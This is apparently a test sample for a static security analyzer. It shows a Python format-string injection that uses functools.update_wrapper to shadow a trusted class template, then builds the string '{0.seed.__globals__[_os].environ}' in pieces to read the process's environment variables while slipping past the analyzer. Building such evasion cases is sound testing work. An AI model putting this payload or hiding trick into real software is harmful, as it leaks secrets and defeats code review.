# family: format
# Escape: self.TEMPLATE.format is trusted when TEMPLATE is a class constant no statement assigns. But
# functools.update_wrapper(card, patch) updates card.__dict__ from patch.__dict__ (WRAPPER_UPDATES), giving the
# instance a TEMPLATE attribute that shadows the constant with the caller's template (no store is recorded).
import functools
import random
import types


class Card:
    TEMPLATE = "{0}"

    def render(self, obj):
        return self.TEMPLATE.format(obj)


def tool(word: str = "globals") -> str:
    u = "_" * 2
    card = Card()
    patch = types.SimpleNamespace(TEMPLATE="{0.seed." + u + word + u + "[_os].environ}")
    functools.update_wrapper(card, patch)
    return card.render(random.Random())
